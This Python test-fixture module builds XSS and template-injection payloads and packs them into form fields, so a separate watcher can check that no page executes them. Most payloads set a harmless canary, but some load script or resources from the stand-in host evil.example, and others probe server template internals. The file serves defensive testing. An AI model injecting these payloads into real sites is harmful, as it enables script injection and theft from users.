"""Texts that would run a script, if a page took them for anything but text.

The naughty strings come from npm (tests/corpora); those beside them are our own. What of them
runs sets `window.__ran` or opens a dialog; tests/safety/watching.py looks for both.
"""

import os
from collections.abc import Iterable, Iterator
from functools import cache

from tests.corpora.npm import naughty_strings

SCRIPTS = (
    "<script>window.__ran=1</script>",
    "<ScRiPt\n>window.__ran=1</sCrIpT\t>",
    "<script>alert(document.domain)</script>",
    "<script/src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>__ran=1</script>",
    "</textarea><script>__ran=1</script>",
    "</title></style></noscript><script>__ran=1</script>",
    "--><script>__ran=1</script><!--",
    "<!--><img src=x onerror=__ran=1>-->",
    "<![CDATA[<script>__ran=1</script>]]>",
    "<scr<script>ipt>__ran=1</scr</script>ipt>",
)
HANDLERS = (
    "<img src=x onerror=__ran=1>",
    "<img/src=`x`onerror=__ran=1>",
    '"><img src=x onerror=__ran=1>',
    "'><img src=x onerror=__ran=1>",
    "<body onload=__ran=1>",
    "<input autofocus onfocus=__ran=1>",
    '" autofocus onfocus=__ran=1 x="',
    "' autofocus onfocus='__ran=1",
    "` onmouseover=__ran=1 `",
    "<details open ontoggle=__ran=1>",
    "<video><source onerror=__ran=1></video>",
    "<marquee onstart=__ran=1>x</marquee>",
    '<a id=x tabindex=1 onfocusin="__ran=1">x</a>',
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__ran=1>x</b>",
)
VECTORS = (
    "<svg onload=__ran=1>",
    "<svg><script>__ran=1</script></svg>",
    "<svg><animate onbegin=__ran=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:__ran=1"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=__ran=1>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__ran=1</x:script>',
    '<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>',
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:__ran=1><input type=submit></form>",
    "<button formaction=javascript:__ran=1>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:__ran=1'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
)
ADDRESSES = (
    "javascript:window.__ran=1",
    "JaVaScRiPt:__ran=1//",
    "java\tscript:__ran=1",
    "&#106;avascript:__ran=1",
    "data:text/html,<script>parent.__ran=1</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/x",
    "//evil.example/x",
)
STYLES = (
    "<style>@import 'https://evil.example/x.css';</style>",
    "</style><script>__ran=1</script>",
    '" style="background:url(https://evil.example/x.png)',
    "<div style=background:url(https://evil.example/x.png)>x</div>",
    "expression(__ran=1)",
)
TEMPLATES = (
    "{{ 7*'7' }}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{% for x in () %}{% endfor %}",
    "${window.__ran=1}",
    "#{7*7} <%= 7*7 %> [[7*7]]",
    "%(name)s %s %d %n",
)
MARKDOWN = (
    "[x](javascript:__ran=1)",
    '![x](https://evil.example/x.png "y")',
    "<https://evil.example/>",
    "[x]: javascript:__ran=1 'y'",
    "`<script>__ran=1</script>`",
    "&lt;script&gt;__ran=1&lt;/script&gt;",
)
SIGNS = (
    "\uff1cscript\uff1e__ran=1\uff1c/script\uff1e",
    "\u02bcscript\u02bc \u2039img src=x onerror=__ran=1\u203a",
    "+ADw-script+AD4-__ran=1+ADw-/script+AD4-",
    "<\u017fcript>__ran=1</\u017fcript>",
    "\u202e<script>__ran=1</script>",
    "\u2028__ran=1\u2029",
    "\ufeff<script>__ran=1</script>",
    "<a\u200bb onload=__ran=1>",
    "\\u003cscript\\u003e__ran=1\\u003c/script\\u003e",
    "\\x3cscript\\x3e__ran=1",
)
OWN = (
    *SCRIPTS,
    *HANDLERS,
    *VECTORS,
    *ADDRESSES,
    *STYLES,
    *TEMPLATES,
    *MARKDOWN,
    *SIGNS,
)
BETWEEN = "\n"
_MARK = 12  # characters that a mark takes
# `make safety` sets it: every string in every field. Else each of ours is in every field, and
# each of the others in some of them.
ALL = os.environ.get("NAUGHTY") == "all"
_SOME = 4  # texts of others' strings that a field gets


@cache
def every_string() -> tuple[str, ...]:
    """Ours and the naughty strings, each once; what no JSON can hold is left out."""
    told = (*OWN, *naughty_strings())
    return tuple(text for text in dict.fromkeys(told) if _whole(text))


def is_taken(text: str) -> bool:
    """Whether the JSON door lets a text in: it has no control character but tab and line end."""
    return all(sign >= " " or sign in "\t\n\r" for sign in text)


def repeats(answer: str, text: str) -> bool:
    """Whether an answer says this text again; one so short may stand in any answer by itself."""
    return len(text) >= 12 and text in answer


def texts_for(most: int, number: int) -> list[str]:
    """What the field of this number is filled with, text after text of at most `most` characters.

    Each field begins elsewhere among the naughty strings, so that all are used between them.
    """
    ours = list(packed(OWN, most))
    others = list(packed((t for t in every_string() if t not in OWN and is_taken(t)), most))
    start = number * _SOME % len(others)
    return ours + (others[start:] + others[:start])[: len(others) if ALL else _SOME]


def packed(strings: Iterable[str], most: int) -> Iterator[str]:
    """The strings one after another in as few texts of at most `most` characters as they fill.

    One that is longer than a text is left out: the door refuses it for its length.
    """
    filled = ""
    for text in strings:
        if len(text) > most - _MARK:
            continue
        if filled and len(filled) + len(BETWEEN) + len(text) > most - _MARK:
            yield filled
            filled = ""
        filled += BETWEEN * bool(filled) + text
    if filled:
        yield filled


def without_blanks(text: str) -> str:
    """What a page has to show of a text, however it breaks the lines."""
    return "".join(text.split())


def _whole(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return bool(text)
